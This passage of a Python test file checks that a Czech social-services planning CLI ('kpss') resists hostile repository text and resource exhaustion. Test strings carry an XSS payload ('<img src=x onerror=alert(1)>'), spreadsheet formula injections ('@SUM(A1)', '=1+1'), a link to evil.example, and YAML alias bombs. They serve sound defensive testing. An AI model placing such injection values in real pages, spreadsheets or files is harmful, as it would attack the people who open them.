    # a spreadsheet: a measure title and a service name from the repository stay text there.
    import csv
    import io

    _retitle(example_repo, FORMULA)
    services = example_repo / "services.yaml"
    text = services.read_text(encoding="utf-8")
    old = "\n    name: Pečovatelská služba Židlochovice\n"  # the service (its provider's name goes on)
    assert text.count(old) == 1
    services.write_text(text.replace(old, '\n    name: "@SUM(A1)+Pečovatelská služba"\n'), encoding="utf-8")
    out = tmp_path / "site"
    result = run_kpss("render", "site", "-o", out, "--repo", example_repo)
    assert result.exit_code == 0, result.output

    def rows(name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO((out / "data" / name).read_text(encoding="utf-8"))))

    titles = {r["measure_title"] for r in rows("plneni.csv") if r["measure"] == "1.2"}
    assert titles == {"'" + FORMULA}
    names = {r["name"] for r in rows("katalog.csv")}
    assert "'@SUM(A1)+Pečovatelská služba" in names
    assert not any(n.startswith(("=", "+", "@")) for n in names)


def test_p07_markdown_inline_escapes() -> None:
    from kpss_cli.textsafe import csv_text, markdown_inline

    assert markdown_inline(IMG) == "\\<img src=x onerror=alert(1)\\>"
    assert markdown_inline("# a\n- b") == "\\# a - b"
    assert markdown_inline("@jan") == "@\u200djan"
    for cell in ("=1+1", "+420", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_text(cell) == "'" + cell
    assert csv_text("Senioři") == "Senioři"


# -- 6, 10, 17. The pull-request comment (kpss diff --format markdown) -------------------------

_TAG = re.compile(r"<(/?[a-zA-Z][a-zA-Z0-9]*)")


def _tags(markdown: str) -> list[str]:
    """The elements a CommonMark renderer makes of the comment, in order."""
    from markdown_it import MarkdownIt

    return _TAG.findall(MarkdownIt("commonmark").enable("table").render(markdown))


def _diff_of(texts: list[str]):
    """A diff with repository text in every field and path (cycled from ``texts``)."""
    from kpss_cli.changes import FieldChange
    from kpss_cli.diff.result import ADDED, CHANGED, REMOVED, Change, Diff, InvalidFile
    from kpss_cli.findings import Finding

    pool = iter(texts * 40)
    t = lambda: next(pool)  # noqa: E731
    changes = []
    for file in (t(), t()):
        changes += [
            Change(CHANGED, "measure", file, t(), old_id=t(), match="title", title=t(),
                   fields=[FieldChange(t(), t(), t()), FieldChange("budget.2024.obce", 1, 2)], section=file),
            Change(ADDED, "service", file, t(), title=t(), fields=[FieldChange(t(), None, t())], section=file),
            Change(REMOVED, "indicator", file, t(), title=t(), measure=t(), fields=[FieldChange(t(), t(), None)], section=file),
        ]
    invalid = [InvalidFile(t(), "to", t(), [Finding(t(), 1, 1, "KP001", "error", t(), "$")])]
    return Diff("revisions", t(), t(), changes=changes, invalid=invalid, from_commit="a" * 40, to_commit="b" * 40)


_PIECES = list("ab <>&\"'`*_[]()!#|\\@:/.-+=~\n\r\t\x1b\u202e\u2028") + [
    "http://", "www.", "<img src=x>", "</details>", "<!--", "@team", "\n\n# h\n\n", "    code", "1. ",
]
HOSTILE_TEXT = st.lists(st.sampled_from(_PIECES), min_size=1, max_size=12).map("".join)


@settings(max_examples=200, deadline=None)
@given(texts=st.lists(HOSTILE_TEXT, min_size=1, max_size=12))
def test_p06_repository_text_never_makes_an_element_of_its_own(texts: list[str]) -> None:
    from kpss_cli.diff import to_markdown

    hostile = to_markdown(_diff_of(texts))
    names = {text: f"x{n}" for n, text in enumerate(dict.fromkeys(texts))}  # same equalities, plain text
    plain = to_markdown(_diff_of([names[text] for text in texts]))
    assert _tags(hostile) == _tags(plain)
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable("table").render(hostile)
    outside_code = re.sub(r"<code>.*?</code>", "", html, flags=re.S)  # GitHub pings no one from code
    assert not re.search(r"@[A-Za-z0-9]", outside_code), "a mention would ping"
    assert not re.search(r"(?m)^\s*::", hostile)


def test_p06_folder_names_revisions_and_keys_stay_text() -> None:
    from kpss_cli.diff import to_markdown

    texts = ["x\n\n# HEADING [link](http://evil.example)\n\n", "k\rey", "main`<img src=x onerror=alert(1)>`", "@kpss/all"]
    md = to_markdown(_diff_of(texts))
    html = _tags(md)
    assert "h1" not in html and "a" not in html and "img" not in html
    assert "\r" not in md and "@\u200dkpss/all" in md


def test_p10_a_folder_name_that_is_not_utf8(git_repo: Path, run_kpss) -> None:
    folder = os.path.join(os.fsencode(git_repo / "plans"), b"2024-2027\xe9")
    os.mkdir(folder)
    with open(os.path.join(folder, b"plan.yaml"), "wb") as handle:
        handle.write((git_repo / PLAN).read_bytes())
    for fmt in ("markdown", "text", "json"):
        result = run_kpss("diff", "--rev", "HEAD", "--format", fmt, cwd=git_repo)
        assert result.exit_code == 0, (fmt, result.output)
        assert "internal error" not in result.output
    md = run_kpss("diff", "--rev", "HEAD", "--format", "markdown", cwd=git_repo).stdout
    assert "2024-2027\\xe9" in md
    validate = run_kpss("validate", "--format", "json", cwd=git_repo)
    assert validate.exit_code == 1 and "internal error" not in validate.output


def _utf16(text: str) -> int:
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def test_p17_the_cap_counts_the_header() -> None:
    from kpss_cli.changes import FieldChange
    from kpss_cli.diff import to_markdown
    from kpss_cli.diff.result import CHANGED, Change, Diff, InvalidFile
    from kpss_cli.findings import Finding

    # 100 folders with names as long as a file system allows (255 bytes a component).
    files = [f"plans/{'p' * 250}{n:03d}/action-plans/{'a' * 250}.yaml" for n in range(100)]
    changes = [
        Change(CHANGED, "item", file, "1.1", title="Služba", fields=[FieldChange("title", "a", "b")], section=file)
        for file in files
    ]
    invalid = [InvalidFile(file, "to", "working tree", [Finding(file, 1, 1, "KP201", "error", f"{file} is not {file}")]) for file in files]
    md = to_markdown(Diff("revisions", "origin/main", "working tree", changes=changes, invalid=invalid))
    assert _utf16(md) <= 65_536 - len("<!-- kpss-diff -->\n")


def test_p17_a_huge_change_is_cut_inside_not_dropped() -> None:
    from kpss_cli.changes import FieldChange
    from kpss_cli.diff import to_markdown
    from kpss_cli.diff.result import CHANGED, Change, Diff

    fields = [FieldChange(f"indicators[1.1.{n}].target", n, n + 1) for n in range(5000)]
    change = Change(CHANGED, "measure", PLAN, "1.1", title="Pečovatelská služba", fields=fields, section=PLAN)
    md = to_markdown(Diff("revisions", "origin/main", "working tree", changes=[change]))
    assert _utf16(md) <= 65_536
    assert "**measure 1.1**" in md and "target of indicator 1.1.0 0 → 1" in md
    assert "more lines of this change are not shown" in md
    assert "1 more change" not in md and "1 change are not shown" not in md


# -- 14. -o never replaces a data file of the repository without --force ------------------------


@pytest.mark.parametrize(
    "args, target",
    [
        (["render", "plan", "-o"], "kpss.yaml"),
        (["render", "template", "-o"], "services.yaml"),
        (["report", "fulfilment", "-f", "markdown", "-o"], PLAN),
        (["report", "finance", "-f", "csv", "-o"], "plans/2024-2027/action-plans/2025.yaml"),
        # These three refused too, but had no --force to write all the same.
        (["report", "network", "2025", "-f", "markdown", "-o"], "services.yaml"),
        (["report", "grants", "2025", "-f", "csv", "-o"], "grants/2025.yaml"),
        (["report", "participation", "-o"], "groups.yaml"),
    ],
)
def test_p14_output_over_repository_data_is_refused(example_repo: Path, run_kpss, args: list[str], target: str) -> None:
    before = (example_repo / target).read_bytes()
    result = run_kpss(*args, example_repo / target, "--repo", example_repo, cwd=example_repo)
    assert result.exit_code == 2, result.output
    # render runs in Czech in the tests (conftest: its documents are Czech), so its message is too.
    refused = ("data file of the repository", "datový soubor repozitáře")
    assert any(words in result.stderr for words in refused) and "--force" in result.stderr
    assert (example_repo / target).read_bytes() == before
    forced = run_kpss(*args, example_repo / target, "--force", "--repo", example_repo, cwd=example_repo)
    assert forced.exit_code == 0, forced.output
    assert (example_repo / target).read_bytes() != before


# -- 18. Temporary files of a killed write; two rollovers at once --------------------------------

KILLED_WRITE = """
import os, sys
from pathlib import Path
from kpss_cli import yamledit
os.replace = lambda *args: os.kill(os.getpid(), 9)  # killed once the temporary file is complete
yamledit.atomic_write(Path(sys.argv[1]), b"year: 2027\\n")
"""


def test_p18_a_killed_write_leaves_a_temporary_file_the_next_run_removes(example_repo: Path, run_kpss) -> None:
    target = example_repo / AP_2027
    killed = subprocess.run([sys.executable, "-c", KILLED_WRITE, str(target)], capture_output=True, timeout=60)
    assert killed.returncode == -9
    left = sorted(p.name for p in target.parent.glob(".2027.yaml.*.kpss-tmp"))
    assert len(left) == 1 and not target.exists()
    old_style = target.parent / ".2027.yaml.x1y2z3.kpss-tmp"  # an old name without a pid, a day old
    old_style.write_bytes(b"half")
    os.utime(old_style, (0, 0))
    result = run_kpss("rollover", "2027", "--repo", example_repo)
    assert result.exit_code == 0, result.output
    assert list(target.parent.glob("*.kpss-tmp")) == []
    assert target.read_text(encoding="utf-8").count("year: 2027") == 1


def test_p18_init_ignores_the_temporary_files(run_kpss, tmp_path: Path) -> None:
    target = tmp_path / "novy"
    assert run_kpss("init", target, "--name", "Obec Vranovice", "--kind", "obec").exit_code == 0
    git(target, "init", "-q")
    (target / "plans" / ".plan.yaml.123-abc.kpss-tmp").write_text("x", encoding="utf-8")
    assert git(target, "status", "--porcelain", "--untracked-files=all").count("kpss-tmp") == 0
    assert ".*.kpss-tmp" in (target / ".gitignore").read_text(encoding="utf-8").splitlines()


def test_p18_two_rollovers_at_once_exactly_one_writes(example_repo: Path, run_kpss, monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile

    target = example_repo / AP_2027
    theirs = b"# written by the other rollover 2027\n"
    real = tempfile.mkstemp

    def other_run_finishes_first(*args: object, **kwargs: object):  # after our check, before our write
        if not target.exists():
            target.write_bytes(theirs)
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(tempfile, "mkstemp", other_run_finishes_first)
    result = run_kpss("rollover", "2027", "--repo", example_repo)
    assert result.exit_code == 2, result.output
    assert "created by another run" in result.stderr
    assert target.read_bytes() == theirs
    assert list(target.parent.glob("*.kpss-tmp")) == []


# kpss itself in a process of its own, held at a gate between its check that the target does not
# exist and its write (the temporary file is made right after the check) until the other run has
# reached the gate too: the window in which two real runs raced, made certain instead of 2 in 40.
AT_THE_GATE = """
import os, sys, tempfile, time
gate = sys.argv.pop(1)
real = tempfile.mkstemp
def at_the_gate(*args, **kwargs):
    open(os.path.join(gate, str(os.getpid())), "w").close()
    deadline = time.monotonic() + 90
    while len(os.listdir(gate)) < 2 and time.monotonic() < deadline:
        time.sleep(0.01)
    return real(*args, **kwargs)
tempfile.mkstemp = at_the_gate
sys.argv[0] = "kpss"
from kpss_cli.entry import main
main()
"""


def test_p18_two_real_rollover_processes_at_once_exactly_one_writes(example_repo: Path, tmp_path: Path) -> None:
    gate = tmp_path / "gate"
    gate.mkdir()
    target = example_repo / AP_2027
    env = {**os.environ, "NO_COLOR": "1", "KPSS_TODAY": "2026-11-23"}
    runs = [
        subprocess.Popen(
            [sys.executable, "-c", AT_THE_GATE, str(gate), "rollover", "2027", "--repo", str(example_repo)],
            env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )
        for _ in range(2)
    ]
    done = [(run.wait(timeout=180), *run.communicate()) for run in runs]
    assert len(os.listdir(gate)) == 2  # both passed the existence check before either wrote
    codes = sorted(code for code, _, _ in done)
    assert codes == [0, 2], done
    [(_, _, loser_err)] = [d for d in done if d[0] == 2]
    assert "was created by another run meanwhile, so nothing was written" in loser_err
    assert "Traceback" not in loser_err
    text = target.read_text(encoding="utf-8")
    assert text.count("year: 2027") == 1 and text.endswith("\n")
    assert list(target.parent.glob("*.kpss-tmp")) == []


# -- 13. Full disks and read-only folders --------------------------------------------------------


def test_p13_init_on_a_full_disk_leaves_nothing(run_kpss, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from kpss_cli import scaffold

    real = scaffold.atomic_write
    calls = []

    def full_disk(path: Path, content: object, **kwargs: object) -> None:
        calls.append(path)
        if len(calls) == 4:
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        real(path, content, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(scaffold, "atomic_write", full_disk)
    target = tmp_path / "novy"
    result = run_kpss("init", target, "--name", "Obec Vranovice", "--kind", "obec")
    assert result.exit_code == 2, result.output
    assert "No space left on device" in result.stderr and "internal error" not in result.output
    assert not target.exists(), "a half-made repository was left behind"


# -- 2. Alias amplification inside the alias budget ----------------------------------------------


def test_p02_aliases_are_budgeted_in_characters_not_only_values(git_repo: Path) -> None:
    plan = git_repo / PLAN
    text = plan.read_text(encoding="utf-8")
    big = "P" * 100_000
    aliases = "".join("\n          - *big" for _ in range(9_990))
    text = text.replace("          - Oblastní charita Rajhrad", f'          - &big "{big}"{aliases}', 1)
    plan.write_text(text, encoding="utf-8")
    run = kpss_child("validate", "--format", "json", cwd=git_repo)
    (found,) = [f for f in findings_of(run) if f["file"] == PLAN and f["code"] == "KP007"]
    assert "characters" in found["message"]
    for fmt in ("json", "markdown"):
        diff = kpss_child("diff", "--rev", "HEAD", "--format", fmt, cwd=git_repo, memory=1 << 30, timeout=60)
        assert diff.returncode == 0, diff.stderr
        assert PLAN in diff.stdout and len(diff.stdout) < 1_000_000


def test_p02_a_normal_use_of_aliases_stays_valid(example_repo: Path, run_kpss) -> None:
    plan = example_repo / PLAN
    text = plan.read_text(encoding="utf-8")
    text = text.replace("          - Oblastní charita Rajhrad", "          - &charita Oblastní charita Rajhrad", 1)
    text = text.replace("          - Liga vozíčkářů, z. ú.", "          - *charita\n          - Liga vozíčkářů, z. ú.", 1)
    plan.write_text(text, encoding="utf-8")
    result = run_kpss("validate", "--repo", example_repo)
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("aliases, valid", [(99, True), (101, False)])
def test_p02_the_alias_budget_is_a_million_characters(example_repo: Path, run_kpss, aliases: int, valid: bool) -> None:
    # A 10,000-character value aliased 99 times expands to 990,000 characters: within the budget.
    # 101 times is 1,010,000: over it. The old budget counted values only (10,000), so 101
    # aliases of one value passed, as did 9,990 of a 100 KB one.
    plan = example_repo / PLAN
    big = "P" * 10_000
    copies = "".join("\n          - *big" for _ in range(aliases))
    text = plan.read_text(encoding="utf-8")
    plan.write_text(text.replace("          - Oblastní charita Rajhrad", f'          - &big "{big}"{copies}', 1), encoding="utf-8")
    result = run_kpss("validate", "--format", "json", "--repo", example_repo)
    codes = [f["code"] for f in json.loads(result.stdout)["findings"] if f["severity"] == "error"]
    assert codes == ([] if valid else ["KP007"]), result.output


# -- 3. Title similarity is quadratic in title length ----------------------------------------------


def test_p03_title_matching_has_a_budget_and_says_when_it_ran_out() -> None:
    import random

    from kpss_cli.diff.matching import match_budget, match_entities, similarity

    rng = random.Random(3)
    words = ["podpora", "služba", "péče", "senioři", "rodina", "terénní", "sociální", "asistence"]

    def title() -> str:
        return " ".join(rng.choice(words) for _ in range(1_500))  # about 12 KB

    old = [(f"{n}.1", title()) for n in range(300)]
    new = [(f"{n}.9", title()) for n in range(300)]  # every measure renumbered and retitled
    with match_budget() as budget:
        pairs = match_entities(old, new, lambda m: m[0], lambda m: m[1])
    assert budget.skipped
    assert all(p.match is None for p in pairs) and len(pairs) == 600
    # One comparison of two 10 MB titles reads only their beginnings.
    assert 0 <= similarity("a" * 10_000_000, "b" + "a" * 10_000_000) <= 1


def test_p03_the_diff_says_probable_matches_were_not_computed() -> None:
    from kpss_cli.diff import to_markdown
    from kpss_cli.diff.result import Diff

    diff = Diff("revisions", "origin/main", "working tree", probable_skipped=True)
    diff.changes = _diff_of(["x"]).changes
    assert "probable match not computed" in to_markdown(diff)
    assert diff.to_json()["probable_matches"] == "not computed"


def test_p03_a_132_kb_plan_of_renumbered_long_titles_finishes_and_says_so(git_repo: Path) -> None:
    # The review's input: 40 measures with titles of about 2 KB (230 words) added to the example
    # plan (132 KB in all), committed, then every one renumbered (5.1 -> 5.41 …) with its title
    # unchanged. Before the budget, `diff --rev` compared every pair of those titles in full and
    # took 229 s (more than this test's timeout); now the matching stops at its budget, the diff
    # says so, and the measures show as removed and added.
    import random

    rng = random.Random(3)
    words = ["podpora", "služby", "péče", "seniorů", "rodin", "terénní", "sociální", "asistence", "obcí", "osob"]
    lines = ['  - id: "P5"', "    title: Dlouhé názvy", "    measures:"]
    for n in range(1, 41):
        title = "Opatření " + " ".join(rng.choice(words) for _ in range(230))
        lines += [f'      - id: "5.{n}"', f"        title: {title}", "        kind: develop",
                  "        responsible: Město Židlochovice"]
    plan = git_repo / PLAN
    plan.write_text(plan.read_text(encoding="utf-8") + "\n".join(lines) + "\n", encoding="utf-8")
    assert 120_000 < plan.stat().st_size < 140_000
    git(git_repo, "commit", "-q", "-am", "Forty measures with long titles")
    text = plan.read_text(encoding="utf-8")
    plan.write_text(re.sub(r'id: "5\.(\d+)"', lambda m: f'id: "5.{int(m.group(1)) + 40}"', text), encoding="utf-8")

    md = kpss_child("diff", "--rev", "HEAD", "--format", "markdown", cwd=git_repo, timeout=120)
    assert md.returncode == 0, md.stderr
    assert "probable match not computed" in md.stdout
    assert "**40 added, 40 removed** in 1 file." in md.stdout
    assert "**measure 5.41**" in md.stdout and "measure 5.1 “Opatření" in md.stdout
    data = json.loads(kpss_child("diff", "--rev", "HEAD", "--format", "json", cwd=git_repo, timeout=120).stdout)
    assert data["probable_matches"] == "not computed"


def test_p16_a_file_over_the_limit_is_not_no_changes(git_repo: Path, run_kpss) -> None:
    plan = git_repo / PLAN
    plan.write_text(plan.read_text(encoding="utf-8") + "#" + "x" * 25_000_000 + "\n", encoding="utf-8")
    md = run_kpss("diff", "--rev", "HEAD", "--format", "markdown", cwd=git_repo).stdout
    headline = md.splitlines()[2]
    assert "no changes" not in headline and "1 file not compared" in headline
    assert "more than the limit of 20 MB" in md


def _failing_write(monkeypatch: pytest.MonkeyPatch, code: int, text: str) -> None:
    from kpss_cli import yamledit

    def refuse(path: Path, *args: object, **kwargs: object) -> None:
        raise OSError(code, text, str(path))

    monkeypatch.setattr(yamledit, "atomic_write", refuse)


@pytest.mark.parametrize("kind", ["plan", "template"])
@pytest.mark.parametrize("code, text", [(28, "No space left on device"), (30, "Read-only file system")])
def test_p13_render_on_a_full_disk_or_read_only_folder(example_repo: Path, run_kpss, monkeypatch, kind, code, text) -> None:
    _failing_write(monkeypatch, code, text)
    result = run_kpss("render", kind, "-o", example_repo.parent / "out.docx", "--repo", example_repo)
    assert result.exit_code == 2, result.output
    assert text in result.stderr and "internal error" not in result.output


def test_p13_import_registry_on_a_full_disk(run_kpss, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import shutil

    data = Path(__file__).parent / "data"
    repo = tmp_path / "kyjov"
    shutil.copytree(data / "registry" / "repo", repo)
    before = (repo / "services.yaml").read_bytes()
    _failing_write(monkeypatch, 28, "No space left on device")
    result = run_kpss("import", "registry", data / "registry" / "rpss-sample.json", "--repo", repo)
    assert result.exit_code == 2, result.output
    assert "No space left on device" in result.stderr and "internal error" not in result.output
    assert (repo / "services.yaml").read_bytes() == before


def test_p13_registry_capacity_10_to_the_400(run_kpss, tmp_path: Path) -> None:
    import shutil

    data = Path(__file__).parent / "data"
    repo = tmp_path / "kyjov"
    shutil.copytree(data / "registry" / "repo", repo)
    registry = tmp_path / "rpss.json"
    text = (data / "registry" / "rpss-sample.json").read_text(encoding="utf-8")
    registry.write_text(text.replace('"pocet": 350', '"pocet": 1' + "0" * 400, 1), encoding="utf-8")
    result = run_kpss("import", "registry", registry, "--codes", data / "registry", "--repo", repo, "--dry-run")
    assert result.exit_code in (0, 1), result.output
    assert "internal error" not in result.output and "OverflowError" not in result.output


def kpss_unprivileged(repo: Path, *args: object) -> subprocess.CompletedProcess[str]:
    """kpss in a child process as a user that file permissions bind: the test's own user, or
    nobody (uid 65534) when the tests run as root, who reads a chmod 000 folder anyway. As
    nobody, ``repo`` is handed over (chown) first; it must lie in a folder nobody can enter."""

    def drop() -> None:
        if os.geteuid() == 0:
            os.setgroups([])
            os.setgid(65534)
            os.setuid(65534)

    if os.geteuid() == 0:
        for folder, _, names in os.walk(repo):
            os.chown(folder, 65534, 65534)
            for name in names:
                os.chown(os.path.join(folder, name), 65534, 65534)
    env = {**os.environ, "NO_COLOR": "1", "KPSS_TODAY": "2026-11-23", "HOME": str(repo)}
    return subprocess.run(
        [sys.executable, "-m", "kpss_cli", *map(str, args)],
        cwd=repo, env=env, capture_output=True, text=True, timeout=120, preexec_fn=drop,
    )


def test_p13_rollover_with_an_unreadable_action_plans_folder() -> None:
    # The review's input: `chmod 000 plans/2024-2027/action-plans` as a user other than root.
    # rollover 2027 asked whether 2026.yaml exists in it and crashed with PermissionError.
    import shutil
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="kpss-unreadable-"))
    try:
        base.chmod(0o755)  # nobody must reach the repository in it
        repo = base / "repo"
        shutil.copytree(Path(__file__).parent.parent / "examples" / "zidlochovicko", repo)
        folder = repo / "plans" / "2024-2027" / "action-plans"
        assert (folder / "2026.yaml").exists()
        folder.chmod(0o000)
        check = kpss_unprivileged(repo, "validate", "--format", "json")
        run = kpss_unprivileged(repo, "rollover", "2027")
        folder.chmod(0o755)
        assert check.returncode == 1, check.stdout + check.stderr
        assert "KP022" in codes_at(findings_of(check), "plans/2024-2027/action-plans")
        assert run.returncode == 2, run.stdout + run.stderr
        assert "internal error" not in run.stderr and "Traceback" not in run.stderr
        assert "plans/2024-2027/action-plans could not be read (Permission denied)" in run.stderr
        assert "nothing was written" in run.stderr
        assert sorted(p.name for p in folder.iterdir()) == ["2024.yaml", "2025.yaml", "2026.yaml"]
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_p13_render_a_text_over_10_mb(example_repo: Path, run_kpss, tmp_path: Path) -> None:
    plan = example_repo / PLAN
    lines = plan.read_text(encoding="utf-8").split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith("        description:"))
    lines[at] = '        description: "' + "slovo " * 1_900_000 + '"'
    while lines[at + 1].startswith("          "):
        del lines[at + 1]
    plan.write_text("\n".join(lines), encoding="utf-8")
    out = tmp_path / "plan.docx"
    result = run_kpss("render", "plan", "-o", out, "--repo", example_repo)
    assert result.exit_code == 0, result.output
    # Czech (render runs with --lang cs), Czech figures too: 1 000 000, never 1,000,000
    assert "text má 11\u00a0400\u00a0000 znaků; dokument ukazuje prvních 1\u00a0000\u00a0000" in result.stderr
    from docx import Document

    longest = max(len(p.text) for t in Document(str(out)).tables for r in t.rows for c in r.cells for p in c.paragraphs)
    assert longest == 1_000_000
